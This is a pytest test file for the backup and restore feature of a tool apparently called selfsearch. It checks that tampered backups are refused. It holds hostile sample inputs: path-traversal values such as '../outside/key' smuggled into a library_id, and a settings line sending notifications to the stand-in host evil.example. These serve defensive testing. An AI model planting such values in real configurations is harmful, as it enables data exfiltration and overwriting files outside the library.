"""Backups under attack: whoever has the file and not the key can change nothing in it that is believed."""

from __future__ import annotations

import io
import json
import sys
import tracemalloc
from collections.abc import Iterator
from pathlib import Path
from random import Random

import pytest

from selfsearch.errors import LibraryError
from selfsearch.library import backup
from selfsearch.library.root_key import RootKey
from tests import backups, photos
from tests.backups import PASSPHRASE, key_of, lose, shown
from tests.conftest import Run, id_of

EVIL = b'notify = "json://evil.example/collect"\n'


def tree(folder: Path) -> dict[Path, bytes]:
    """Every file there, but the backups."""
    return {
        path: path.read_bytes()
        for path in folder.rglob("*")
        if path.is_file() and path.suffix != ".zip" and path.name != "writer.lock"
    }


def attacks(one: Path, other: Path, folder: Path, elsewhere: str) -> Iterator[tuple[str, Path]]:
    """What somebody can make of two backups of one library, and a path to write to."""
    first, second = backups.members(one), backups.members(other)
    key = {"library_id": elsewhere, "kind": "file"}
    changes: dict[str, tuple[dict[str, bytes | None], dict[str, str]]] = {
        "another library's number": ({}, {"library_id": "0123456789abcdef"}),
        "a path for a number": ({}, {"library_id": elsewhere}),
        "a place for the key": ({"key.json": json.dumps(key).encode()}, {}),
        "settings added": ({"settings.sealed": EVIL}, {}),
        "settings of the version before added": ({"config.toml": EVIL}, {}),
        "a key added": ({"root.json": json.dumps(key).encode()}, {}),
        "the database of an earlier one": ({"library.db": second["library.db"]}, {}),
        "the keys of an earlier one": ({"keys.db": second["keys.db"]}, {}),
        "a file removed": ({"keys.db": None}, {}),
        "another moment": ({}, {"made_at": "2030-01-01T00:00:00+00:00"}),
    }
    for name, (members, values) in changes.items():
        yield name, backups.edited(one, folder / f"{name}.zip", members, **values)
    with_manifest = {"manifest.json": second["manifest.json"], "manifest.mac": second["manifest.mac"]}
    yield "the manifest of an earlier one", backups.write(folder / "m.zip", first | with_manifest)
    yield "a file that no list names", backups.write(folder / "n.zip", first | {"config.toml": EVIL})
    yield (
        "no seal",
        backups.write(
            folder / "s.zip", {name: data for name, data in first.items() if name != "manifest.mac"}
        ),
    )
    empty = {"manifest.mac": b""}
    yield "an empty seal", backups.write(folder / "e.zip", first | empty)


def test_no_edited_backup_is_restored(
    run: Run,
    home: Path,
    filled: Path,
    selfie: Path,
    tmp_path: Path,
) -> None:
    run("backup", filled / "earlier.zip")
    run("verdict", id_of(home, 1), "not-me", "--yes")
    run("backup", filled / "b.zip")
    outside = tmp_path / "outside"
    outside.mkdir()
    before = tree(tmp_path)
    for name, path in attacks(filled / "b.zip", filled / "earlier.zip", filled, f"../{outside.name}/key"):
        said = run("restore", path, "--yes", code=5)
        assert "Nothing was restored" in said.err or "not a backup" in said.err, name
        assert tree(tmp_path) == before, name
    run("restore", filled / "b.zip", "--yes")


def test_a_backup_does_not_say_where_its_key_is_written(
    run: Run,
    home: Path,
    filled: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    code = run("key", "export", "--yes").out
    run("backup", filled / "b.zip")
    place = {"library_id": "../outside/stolen", "kind": "file"}
    changes: dict[str, bytes | None] = {"key.json": json.dumps(place).encode()}
    path = backups.edited(filled / "b.zip", filled / "evil.zip", changes, library_id=place["library_id"])
    lose(home)
    key_of(home).unlink()
    (tmp_path / "outside").mkdir()
    monkeypatch.setattr(sys, "stdin", io.StringIO(code))
    run("restore", path, "--code", code=5)
    assert list((tmp_path / "outside").iterdir()) == []
    assert list((tmp_path / "keys").glob("*.key")) == []


def test_the_key_of_another_library_is_not_overwritten(
    run: Run,
    home: Path,
    filled: Path,
    selfie: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    code = run("key", "export", "--yes").out
    run("backup", filled / "b.zip")
    lose(home)
    taken = key_of(home)
    taken.write_bytes(bytes(64))  # of another library, under the same name
    monkeypatch.setattr(sys, "stdin", io.StringIO(code))
    run("restore", filled / "b.zip", "--code")
    assert taken.read_bytes() == bytes(64)
    assert len(shown(run, selfie)) == 2
    run("backup", filled / "b.zip", "--yes")
    run("restore", filled / "b.zip", "--yes")


def test_another_library_is_not_replaced(
    run: Run, home: Path, filled: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SELFSEARCH_NEW_PASSPHRASE", PASSPHRASE)
    monkeypatch.setenv("SELFSEARCH_BACKUP_PASSPHRASE", PASSPHRASE)
    run("backup", filled / "b.zip", "--with-key")
    lose(home)
    run("index", tmp_path / "kept", "--consent", "own")
    before = tree(home)
    assert "would be lost" in run("restore", filled / "b.zip", "--yes", code=2).err
    assert tree(home) == before


def test_what_was_withdrawn_does_not_come_back_by_renaming_the_library(
    run: Run,
    filled: Path,
    selfie: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """It has its key in it and says that it is another library's: the newer receipts would not count."""
    monkeypatch.setenv("SELFSEARCH_NEW_PASSPHRASE", PASSPHRASE)
    monkeypatch.setenv("SELFSEARCH_BACKUP_PASSPHRASE", PASSPHRASE)
    run("backup", filled / "b.zip", "--with-key")
    run("consent", "revoke", "--yes", tmp_path / "private")
    files = backups.members(filled / "b.zip")
    renamed: dict[str, bytes | None] = {}
    if "key.json" in files:
        place = json.loads(files["key.json"]) | {"library_id": "0123456789abcdef"}
        renamed["key.json"] = json.dumps(place).encode()
    path = backups.edited(filled / "b.zip", filled / "c.zip", renamed, library_id="0123456789abcdef")
    run("restore", path, "--yes", code=5)
    assert shown(run, selfie) == {"planted-kept.jpg"}
    run("restore", filled / "b.zip", "--yes")
    assert shown(run, selfie) == {"planted-kept.jpg"}


def test_settings_of_a_backup_are_shown_and_not_taken(run: Run, home: Path, filled: Path) -> None:
    (home / "config.toml").write_bytes(EVIL + b'pack = "elsewhere"\ngrace_days = 60\n')
    run("backup", filled / "b.zip")
    (home / "config.toml").unlink()
    assert b"evil.example" not in (filled / "b.zip").read_bytes()
    said = run("restore", filled / "b.zip", "--yes").err
    assert "pack = 'elsewhere' (here 'opencv-zoo')" in said
    assert "json://... (over the network)" in said
    assert "evil.example" not in said
    assert not (home / "config.toml").exists()


def test_settings_are_taken_when_asked_for_and_notifications_when_agreed_to(
    run: Run,
    home: Path,
    filled: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    (home / "config.toml").write_bytes(EVIL + b"pack = 'elsewhere'\n")
    run("backup", filled / "b.zip")
    (home / "config.toml").write_bytes(b"grace_days = 7\n")
    run("restore", filled / "b.zip", "--yes", "--settings")
    assert (home / "config.toml").read_text().split("\n")[:2] == ["grace_days = 7", 'pack = "elsewhere"']
    assert b"notify" not in (home / "config.toml").read_bytes()
    asked: list[str] = []

    def agree(question: str) -> bool:
        asked.append(question)
        return True

    monkeypatch.setattr("selfsearch.cli.options.ask", agree)
    run("restore", filled / "b.zip", "--yes", "--settings")
    assert asked == ["Send notifications as the backup says: json://... (over the network)?"]
    assert b"evil.example" in (home / "config.toml").read_bytes()


def test_of_two_settings_the_stricter_counts(run: Run, home: Path, filled: Path) -> None:
    (home / "config.toml").write_bytes(b"bystanders = 'discard'\ngrace_days = 30\n")
    run("backup", filled / "b.zip")
    (home / "config.toml").write_bytes(b"bystanders = 'keep'\ngrace_days = 7\n")
    said = run("restore", filled / "b.zip", "--yes", "--settings")
    assert "bystanders is discard from now on" in said.err
    assert "selfsearch forget --bystanders" in said.out
    assert (home / "config.toml").read_text() == 'bystanders = "discard"\ngrace_days = 7\n'
    lose(home)
    run("restore", filled / "b.zip")
    assert 'bystanders = "discard"' in (home / "config.toml").read_text()


def test_a_backup_of_the_version_before_is_restored_when_that_is_chosen(
    run: Run,
    home: Path,
    filled: Path,
    selfie: Path,
    tmp_path: Path,
) -> None:
    run("backup", filled / "b.zip")
    place = json.dumps({"library_id": "../outside", "kind": "file"}).encode()
    path = backups.former_backup(home, filled / "b.zip", filled / "f.zip", key_json=place, config_toml=EVIL)
    said = run("restore", path, "--yes", code=2)
    assert "no seal" in said.err
    assert "--unauthenticated" in said.err
    run("consent", "revoke", "--yes", tmp_path / "private")
    before = key_of(home)
    run("restore", path, "--yes", "--unauthenticated")
    assert shown(run, selfie) == {"planted-kept.jpg"}
    assert not (home / "config.toml").exists()
    assert key_of(home) == before
    run("backup", filled / "new.zip")
    run("restore", filled / "new.zip", "--yes")


def test_a_backup_of_the_version_before_brings_no_number_for_its_key(
    run: Run,
    home: Path,
    filled: Path,
    selfie: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    code = run("key", "export", "--yes").out
    run("backup", filled / "b.zip")
    path = backups.former_backup(home, filled / "b.zip", filled / "f.zip")
    former = key_of(home)
    lose(home)
    former.unlink()
    monkeypatch.setattr(sys, "stdin", io.StringIO(code))
    run("restore", path, "--code", "--unauthenticated")
    assert len(shown(run, selfie)) == 2
    assert key_of(home).name != former.name


def test_taking_the_seal_off_does_not_make_it_one_of_the_version_before(
    run: Run,
    home: Path,
    filled: Path,
) -> None:
    run("backup", filled / "b.zip")
    path = backups.unsealed(filled / "b.zip", filled / "c.zip")
    assert "seal was taken off" in run("restore", path, "--yes", "--unauthenticated", code=5).err


def test_a_backup_with_its_key_is_authenticated_by_what_its_passphrase_opens(
    run: Run,
    home: Path,
    filled: Path,
    selfie: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("SELFSEARCH_NEW_PASSPHRASE", PASSPHRASE)
    monkeypatch.setenv("SELFSEARCH_BACKUP_PASSPHRASE", PASSPHRASE)
    run("backup", filled / "b.zip", "--with-key")
    lose(home)
    key_of(home).unlink()
    changed = backups.edited(filled / "b.zip", filled / "c.zip", {"settings.sealed": EVIL})
    assert "Nothing was restored" in run("restore", changed, code=5).err
    assert list((home.parent / "keys").glob("*.key")) == []
    assert "its key is kept in a file outside the library" in run("restore", filled / "b.zip").out
    assert len(shown(run, selfie)) == 2


@pytest.mark.parametrize(
    "manifest",
    [b"", b"null", b"[" * 60_000, b'{"schema": "selfsearch.backup/3"}', b'{"schema": []}', b"x" * 70_000],
)
def test_what_is_no_manifest_is_no_backup(run: Run, tmp_path: Path, manifest: bytes) -> None:
    members = {"library.db": b"", "keys.db": b"", "manifest.mac": b"00", "manifest.json": manifest}
    path = backups.write(tmp_path / "x.zip", members)
    said = run("restore", path, code=5).err
    assert "not a backup" in said or "another version" in said


def test_a_photograph_of_somebody_else_is_no_backup(run: Run, tmp_path: Path) -> None:
    (tmp_path / "x.jpg").write_bytes(photos.photo("astronaut", 1))
    assert "not a backup" in run("restore", tmp_path / "x.jpg", code=5).err


def test_no_damaged_backup_is_taken_for_another(tmp_path: Path) -> None:
    """Bytes changed, cut out and put in anywhere: it is refused, or what it holds is what was saved."""
    root = RootKey(bytes(32), (bytes(32),))
    path, held = tmp_path / "b.zip", {"library.db": b"L" * 300, "keys.db": b"K" * 200}
    good = backups.sealed(path, root, held).read_bytes()
    random = Random(7)  # noqa: S311
    for _ in range(300):
        at, length = random.randrange(len(good)), random.choice((0, 1, 1, 4, 60))
        path.write_bytes(good[:at] + random.randbytes(random.choice((length, 0, 3))) + good[at + length :])
        try:
            with backup.opened(path) as opened:
                opened.authenticate(root)
                opened.unpack(tmp_path)
        except LibraryError:
            continue
        assert {name: (tmp_path / name).read_bytes() for name in held} == held


def test_a_listing_without_end_is_refused_before_it_is_read(tmp_path: Path) -> None:
    path = backups.write(tmp_path / "b.zip", {f"{number:0500d}": b"" for number in range(2500)})
    tracemalloc.start()
    with pytest.raises(LibraryError, match="not a backup"), backup.opened(path):
        pass
    assert tracemalloc.get_traced_memory()[1] < 1 << 20
    tracemalloc.stop()
